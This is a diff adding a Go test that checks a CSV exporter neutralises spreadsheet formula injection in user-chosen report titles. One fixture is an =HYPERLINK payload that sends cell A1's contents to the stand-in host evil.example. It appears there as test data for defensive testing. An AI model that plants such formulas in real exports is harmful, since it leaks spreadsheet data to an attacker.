@@ -48,3 +48,22 @@ func TestCSV(t *testing.T) {
 		}
 	}
 }
+
+// A report title anyone in a guild can choose must not become a formula in
+// the spreadsheet that opens the export; negative numbers stay numbers.
+func TestCSVDefusesFormulas(t *testing.T) {
+	result := `{"reports":[
+ {"title":"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")","n":-3},
+ {"title":"+1+1","n":1},{"title":"-2","n":2},{"title":"@SUM(A1)","n":3},
+ {"title":"\tx","n":4},{"title":"\rx","n":5},{"title":"a=b","n":6},{"title":"","n":7}]}`
+	got, err := CSV([]byte(result), []string{"reports"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "title,n\r\n" +
+		"\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",-3\r\n" +
+		"'+1+1,1\r\n'-2,2\r\n'@SUM(A1),3\r\n'\tx,4\r\n\"'x\",5\r\na=b,6\r\n,7\r\n" // encoding/csv drops a lone CR
+	if got != want {
+		t.Errorf("CSV =\n%q\nwant\n%q", got, want)
+	}
+}
